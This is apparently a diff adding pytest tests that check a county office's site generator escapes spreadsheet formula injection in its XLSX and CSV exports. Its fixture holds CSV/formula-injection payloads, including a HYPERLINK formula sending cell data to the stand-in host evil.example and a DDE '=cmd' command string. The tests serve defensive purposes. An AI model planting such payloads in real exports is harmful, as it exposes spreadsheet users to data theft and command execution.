@@ -196,3 +196,59 @@ def test_exports_are_in_the_built_site(tmp_path) -> None:
     assert ET.parse(site / "feed.xml").getroot().tag == f"{ATOM}feed"
     for path in ("exports/calendar.ics", "feed.xml"):
         assert b"CANARY" not in (site / path).read_bytes()
+
+
+FORMULAS = """\
+organizer: 县政府办公室
+actions:
+  - id: "=1+1"
+    task: '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    unit: "+县水利局"
+    owner: "@SUM(A1:A9)"
+    due: 2024-05-20
+    updates: [{date: 2024-05-10, note: "-2+3"}]
+  - {id: A2, task: "\\t=cmd|' /C calc'!A0", unit: "县财政局", due: 2024-05-21}
+"""
+
+
+def test_no_cell_of_the_workbook_is_a_formula(settings, write) -> None:
+    """Every cell read back with openpyxl: text cells are strings (never a formula), dates dates,
+    numbers numbers; text that starts with = + - @ is there exactly as written."""
+    settings.units = ["县财政局"]
+    write("2024/a.md", dossier_text(FORMULAS, title="=cmd|' /C calc'!A0"))
+    wb = openpyxl.load_workbook(io.BytesIO(actions_xlsx(load(settings))))
+    types = set()
+    texts = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.value is None:
+                    continue
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                types.add(cell.data_type)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+    assert types <= {"s", "n", "d"}
+    for written in ("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"点击")', "+县水利局", "@SUM(A1:A9)", "-2+3",
+                    "=cmd|' /C calc'!A0"):
+        assert written in texts, written
+    with zipfile.ZipFile(io.BytesIO(actions_xlsx(load(settings)))) as zf:  # and no <f> element anywhere
+        assert not any(b"<f>" in zf.read(n) or b"<f " in zf.read(n) for n in zf.namelist() if n.endswith(".xml"))
+
+
+def test_csv_cells_that_look_like_formulas_get_an_apostrophe(settings, write, capsys, tmp_path) -> None:
+    import csv  # noqa: PLC0415
+
+    from generator.exports import actions_csv  # noqa: PLC0415
+    from generator.ledger_cli import to_csv  # noqa: PLC0415
+    from generator.listing import ledger  # noqa: PLC0415
+
+    write("2024/a.md", dossier_text(FORMULAS, title="=cmd|' /C calc'!A0"))
+    arc = load(settings)
+    site_rows = list(csv.reader(io.StringIO(actions_csv(arc).decode("utf-8-sig"))))
+    cli_rows = list(csv.reader(io.StringIO(to_csv(ledger(arc)))))
+    for rows in (site_rows, cli_rows):
+        cells = [c for row in rows[1:] for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+        for written in ("=1+1", "+县水利局", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"):
+            assert "'" + written in cells, written
